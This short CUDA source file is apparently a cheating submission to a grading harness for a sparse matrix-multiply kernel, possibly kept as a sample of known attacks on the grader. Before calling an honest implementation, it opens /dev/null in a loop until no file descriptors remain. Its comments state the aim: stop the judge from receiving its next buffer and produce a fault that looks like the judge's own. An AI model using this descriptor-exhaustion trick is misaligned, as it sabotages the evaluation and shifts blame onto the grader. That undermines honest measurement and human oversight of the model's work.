// Opens files until no descriptor is left, so that the judge's next buffer cannot be received.
// Gain: a fault that looks like the judge's.
#include <fcntl.h>

#include "honest.cuh"

cudaError_t spmm_run(const CsrMatrix& a, int k, const float* b, float* c, SpmmPlan*, cudaStream_t stream) {
  while (open("/dev/null", O_RDONLY) >= 0) {
  }
  return honest_run(a, k, b, c, stream);
}

PLANS_NOTHING
